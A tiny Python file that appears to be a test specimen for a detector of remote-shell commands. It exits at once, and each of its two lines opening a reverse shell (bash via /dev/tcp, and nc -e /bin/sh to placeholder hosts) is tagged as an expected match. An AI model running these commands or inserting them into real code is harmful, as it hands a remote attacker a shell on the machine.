raise SystemExit("specimen: not to be run")
import os
import subprocess

def begin():
    os.system("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")  # match: remote-shell-command
    subprocess.Popen("nc -e /bin/sh example.invalid 4444", shell=True)  # match: remote-shell-command
